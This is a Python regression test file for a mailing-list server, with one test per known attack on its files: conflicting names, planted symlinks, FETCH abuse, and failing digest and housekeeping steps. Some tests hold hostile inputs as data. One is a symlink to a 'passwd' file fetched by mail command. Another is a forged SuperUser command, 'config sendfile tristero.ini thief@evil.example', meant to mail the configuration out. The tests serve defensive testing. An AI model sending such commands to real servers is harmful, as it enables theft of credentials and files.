"""Regression tests, one per known attack on the site's files: names that make a committed
transaction impossible to apply, links planted in archive/, files FETCHed as the whole
body of a message, digests and housekeeping steps that cannot be staged."""

import datetime
import errno
import json
import os

import pytest

from conftest import mail
from test_repository import INI, fresh, put_file, run_commands, with_files
from tristero.model import durable, journal
from tristero.model.site import Site
from tristero.runtime import batch, housekeeping

NOW = "2026-11-21T10:00:00"


@pytest.fixture
def rsite(site):
    site.write_ini(INI)
    os.makedirs(site.path("lists"))
    for number, members in (("00000001", ["carol@example.com"]), ("00000002", ["owner@example.org"]),
                            ("00000003", ["carol@example.com"])):
        with open(site.path("lists", number + ".ini"), "w") as f:
            f.write("[Members]\n" + "".join("%s =\n" % a for a in members))
    for number in ("00000000", "00000001", "00000002", "00000003"):
        os.makedirs(site.path("archive", number))
    return site


def answered_later(site, now="2026-11-21T11:00:00"):
    """A later run exits 0 and answers an innocent message."""
    fresh(site)
    site.drop(mail(frm="bob@example.net", subject="lists", body="LISTS\n"))
    site.run(now=now)
    assert site.messages_to("bob@example.net")
    assert site.listdir("spool", "txn") == []


def post(site, body="hi all\n", subject="hello list", frm="carol@example.com"):
    site.drop(mail(frm=frm, to="news@example.org", subject=subject, body=body))


# --- names that conflict with what this run stages ------------------------------------------

def test_put_of_a_file_and_a_file_below_it_in_one_message_refuses_the_second(rsite):
    text, _ = run_commands(rsite, "put news\nput news x", files=[("x", b"hello")])
    assert "x is a file stored in this run, not a folder" in text
    with open(rsite.path("archive", "00000001", "x"), "rb") as f:
        assert f.read() == b"hello"
    answered_later(rsite)


def test_put_in_two_messages_of_one_transaction_refuses_the_conflict(rsite):
    rsite.drop(with_files("put news", [("y", b"one")]))
    rsite.drop(with_files("put news y", [("z", b"two")], subject="second"))
    rsite.run()
    assert os.path.isfile(rsite.path("archive", "00000001", "y"))
    assert "y is a file stored in this run, not a folder" in rsite.log()
    answered_later(rsite)


def test_put_of_a_folder_named_like_a_day_file_is_refused(rsite):
    text, _ = run_commands(rsite, "put news 20261122.txt", files=[("a", b"hello")])
    assert "20261122.txt/a is a name the archive keeps for its posts" in text
    assert not os.path.exists(rsite.path("archive", "00000001", "20261122.txt"))
    post(rsite)
    rsite.run(now="2026-11-22T09:00:00")
    assert os.path.isfile(rsite.path("archive", "00000001", "20261122.txt"))


@pytest.mark.parametrize("folder, name", [("", "files"), ("files/20261121", "abcd1234-a.txt")])
def test_put_into_the_archives_files_folder_is_refused(rsite, folder, name):
    text, _ = run_commands(rsite, ("put news %s" % folder).strip(), files=[(name, b"x")])
    assert "files/ is the archive's folder of attachments" in text
    assert not os.path.exists(rsite.path("archive", "00000001", "files"))


# --- the archive writes only where it can -----------------------------------------------------

def test_a_folder_where_the_day_file_goes_leaves_the_post_unarchived_not_the_site_stuck(rsite):
    os.makedirs(rsite.path("archive", "00000001", "20261121.txt", "a"))
    post(rsite)
    rsite.run()
    assert rsite.messages_to("carol@example.com")
    assert "not archived: 20261121.txt is a folder, not a file" in rsite.log()
    answered_later(rsite)


def test_a_link_at_the_day_file_is_not_appended_through(rsite, tmp_path):
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious\n")
    os.symlink(str(victim), rsite.path("archive", "00000001", "20261121.txt"))
    post(rsite, body="appended-by-mail\n")
    rsite.run()
    assert victim.read_bytes() == b"precious\n"
    assert "not archived: 20261121.txt is a link or special file" in rsite.log()


def test_a_file_where_fileonlys_folder_goes_leaves_the_post_unarchived(rsite):
    rsite.write_ini(INI.replace("Description = News of the day", "Description = News\nArchive = FILEONLY"))
    put_file(rsite, "00000001/files", b"planted")
    rsite.drop(with_files("see attached", [("a.pdf", b"%PDF")], frm="carol@example.com",
                          to="news@example.org"))
    rsite.run()
    assert "not archived: files is a file, not a folder" in rsite.log()
    answered_later(rsite)


# --- links planted in archive/ -------------------------------------------------------------------

def test_a_list_folder_that_is_a_link_is_not_used(rsite, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "passwd").write_bytes(b"root:x:0:0")
    os.rmdir(rsite.path("archive", "00000001"))
    os.symlink(str(outside), rsite.path("archive", "00000001"))
    rsite.drop(mail(frm="carol@example.com", body="GET news passwd\n"))
    rsite.run()
    assert all(b"root:x" not in b.data for b in rsite.outbound())
    assert "leads elsewhere" in rsite.log() or "is a link" in rsite.log()


def test_append_at_does_not_follow_a_link(tmp_path):
    victim = tmp_path / "victim"
    victim.write_bytes(b"precious\n")
    os.symlink(str(victim), str(tmp_path / "day.txt"))
    with pytest.raises(durable.NotAFile):
        durable.append_at(str(tmp_path / "day.txt"), 0, b"mail\n")
    assert victim.read_bytes() == b"precious\n"


def test_apply_skips_a_step_whose_folder_is_reached_through_a_link(tmp_path):
    home, outside = tmp_path / "home", tmp_path / "outside"
    outside.mkdir()
    (home / "archive").mkdir(parents=True)
    os.symlink(str(outside), str(home / "archive" / "00000001"))
    txn = journal.Transaction(str(home), 1)
    txn.replace(str(home / "archive" / "00000001" / "x"), b"planted")
    txn.replace(str(home / "ok.txt"), b"fine")
    skipped = txn.commit()
    assert [step for step, _ in skipped] == ["replace archive/00000001/x"]
    assert "is a link" in skipped[0][1]
    assert os.listdir(str(outside)) == []
    assert (home / "ok.txt").read_bytes() == b"fine"


# --- a committed transaction never stops every later run --------------------------------------

def committed(home, ops, files):
    """A committed transaction folder, as a crash after the commit leaves it."""
    folder = os.path.join(home, "spool", "txn", "00000001-1")
    os.makedirs(folder)
    for name, data in files.items():
        with open(os.path.join(folder, name), "wb") as f:
            f.write(data)
    with open(os.path.join(folder, "manifest.json"), "w") as f:
        json.dump({"ops": ops}, f)
    return folder


def test_recover_skips_and_reports_steps_that_cannot_be_made_and_does_the_rest(tmp_path):
    home = str(tmp_path)
    os.makedirs(os.path.join(home, "archive", "00000001", "20261122.txt"))
    with open(os.path.join(home, "x"), "wb") as f:
        f.write(b"a file")
    committed(home, [["replace", "000001", "x/x"],
                     ["append", "000002", "archive/00000001/20261122.txt", 0],
                     ["replace", "000003", "done.txt"]],
              {"000001": b"1", "000002": b"post\n", "000003": b"3"})
    recovered = journal.recover(home)
    assert tuple(recovered) == (1, 0)
    assert [step for step, _ in recovered.skipped] == [
        "replace x/x", "append archive/00000001/20261122.txt 0"]
    with open(os.path.join(home, "done.txt"), "rb") as f:
        assert f.read() == b"3"
    assert os.listdir(os.path.join(home, "spool", "txn")) == []


def test_a_disk_error_while_applying_still_stops_the_run(tmp_path, monkeypatch):
    home = str(tmp_path)
    committed(home, [["replace", "000001", "done.txt"]], {"000001": b"1"})

    def full(src, dst):
        raise OSError(errno.ENOSPC, "No space left on device", dst)

    monkeypatch.setattr(durable, "replace", full)
    with pytest.raises(OSError):
        journal.recover(home)
    assert journal.pending(home) == ["00000001-1"]


def test_a_committed_transaction_that_cannot_be_applied_does_not_stop_later_runs(rsite):
    rsite.run()
    os.makedirs(rsite.path("archive", "00000001", "20261122.txt"))
    committed(rsite.home, [["append", "000001", "archive/00000001/20261122.txt", 0]], {"000001": b"post\n"})
    answered_later(rsite)


# --- FETCH never sends a file as the whole message ---------------------------------------------

def test_fetch_sends_a_text_part_first_and_the_file_as_an_attachment(rsite):
    put_file(rsite, "00000000/offer.html", b"<h1>BUY CHEAP PILLS</h1>")
    rsite.drop(mail(frm="carol@example.com", subject="Your invoice", body="FETCH offer.html\n"))
    rsite.run()
    [m] = [m for m in rsite.messages_to("carol@example.com") if not m["Subject"].startswith("Re:")]
    assert m.get_content_type() == "multipart/mixed"
    first, attached = list(m.iter_parts())
    assert first.get_content_type() == "text/plain"
    assert "The file offer.html of the default archive, as you asked (FETCH offer.html)" in first.get_content()
    assert attached.get_content_disposition() == "attachment"
    assert attached.get_content_type() == "text/html" and attached.get_filename() == "offer.html"


# --- digests and housekeeping are contained ---------------------------------------------------

DIGEST_INI = """\
[Globals]
Domain = example.org
SuperUser = boss@example.org

[LIST news]
MemberFile = 00000001
Type = Open
Owner = owner@example.org

[LIST other]
MemberFile = 00000002
Type = Open
Owner = owner@example.org
"""


def digest_site(site):
    site.write_ini(DIGEST_INI)
    os.makedirs(site.path("lists"))
    for number in ("00000001", "00000002"):
        with open(site.path("lists", number + ".ini"), "w") as f:
            f.write("[Members]\nd%s@example.com = DIGEST DAILY SUMMARY MIME 2026-11-19\n" % number)
        os.makedirs(site.path("archive", number))
        with open(site.path("archive", number, "20261120.txt"), "wb") as f:
            f.write(b"From a@example.net Fri Nov 20 10:00:00 2026\nFrom: a@example.net\nSubject: hi\n"
                    b"Message-ID: <p%s@example.net>\n\nbody\n\n" % number.encode())
    return site


def run_in_process(site, now=NOW):
    return batch.run(Site(site.home), datetime.datetime.fromisoformat(now).astimezone())


def test_a_digest_that_cannot_be_staged_is_contained_and_the_others_go(site, monkeypatch):
    digest_site(site)
    stage_mail = batch.Batch.stage_mail

    def refuse(self, m):
        if "d00000001@example.com" in m.recipients:
            raise ValueError("the export spool refuses this recipient")
        return stage_mail(self, m)

    monkeypatch.setattr(batch.Batch, "stage_mail", refuse)
    site.drop(mail(frm="bob@example.net", body="LISTS\n"))
    assert run_in_process(site) == 0
    assert "digests of news not sent: ValueError" in site.log()
    assert [m["Subject"] for m in site.messages_to("boss@example.org")] == [
        "Tristero: the digests of news were not sent"]
    assert site.messages_to("d00000002@example.com")
    assert site.messages_to("bob@example.net")
    assert run_in_process(site, "2026-11-21T11:00:00") == 0


def test_a_housekeeping_step_that_fails_is_rolled_back_reported_and_the_others_run(site, monkeypatch):
    digest_site(site)

    def broken(b):
        b.ctx.act("half done", "test")
        yield site.path("lists", "00000001.ini")
        raise RuntimeError("step broke")

    steps = list(housekeeping.STEPS)
    steps.insert(0, ("broken step", broken))
    monkeypatch.setattr(housekeeping, "STEPS", tuple(steps))
    assert run_in_process(site) == 0
    assert os.path.exists(site.path("lists", "00000001.ini"))
    assert "housekeeping: broken step failed, rolled back: RuntimeError: step broke" in site.log()
    assert [m["Subject"] for m in site.messages_to("boss@example.org")] == [
        "Tristero: housekeeping step 'broken step' failed"]
    assert site.messages_to("d00000001@example.com") and site.messages_to("d00000002@example.com")


def test_a_disk_error_in_housekeeping_still_stops_the_run(site, monkeypatch):
    digest_site(site)

    def full(b):
        raise batch.StoreError("disk: No space left on device")
        yield

    monkeypatch.setattr(housekeeping, "STEPS", (("full disk", full),))
    assert run_in_process(site) == 74


# --- staged files are made durable at the commit ----------------------------------------------

def test_commit_fsyncs_every_staged_file_before_the_manifest(tmp_path, monkeypatch):
    events = []
    fsync_file, write_file = durable.fsync_file, durable.write_file
    monkeypatch.setattr(durable, "fsync_file", lambda p: (events.append(("fsync", os.path.basename(p))),
                                                          fsync_file(p)))
    monkeypatch.setattr(durable, "write_file", lambda p, d, sync=True: (
        events.append(("write", os.path.basename(p), sync)), write_file(p, d, sync)))
    txn = journal.Transaction(str(tmp_path), 1)
    txn.replace(str(tmp_path / "a"), b"a")
    txn.outbound("m1", b"m")
    txn.commit()
    assert events == [("write", "000001", False), ("write", "000002", False),
                      ("fsync", "000001"), ("fsync", "000002"), ("write", "manifest.json", True)]


def test_config_sendfile_of_the_configuration_needs_a_superuser_password(site):
    # A forged From of a SuperUser without a password must not mail the SMTP password away.
    site.drop(mail(frm="boss@example.org", body="config sendfile tristero.ini thief@evil.example"))
    site.run()
    assert site.messages_to("thief@evil.example") == []
    answer = [m for m in site.messages_to("boss@example.org") if m["Subject"].startswith("Re:")][0]
    assert "CONFIG SENDFILE is only for a SuperUser with a password" in answer.get_content()


def test_a_unit_inside_a_housekeeping_step_leaves_the_steps_own_mail_in_place(site, monkeypatch):
    """A notice (a unit of its own) sent in the middle of a step must not take away the
    mail the step had made before it."""
    digest_site(site)

    def step(b):
        b.ctx.notify("Tristero: first", "made by the step\n")
        b.notify("inner", "Tristero: second", "a unit of its own\n")
        b.ctx.notify("Tristero: third", "made by the step after the inner unit\n")
        return ()

    monkeypatch.setattr(housekeeping, "STEPS", (("two notices", step),))
    assert run_in_process(site) == 0
    told = site.messages_to("boss@example.org")
    assert sorted(m["Subject"] for m in told) == ["Tristero: first", "Tristero: second", "Tristero: third"]
    assert len({m["Message-ID"] for m in told}) == 3
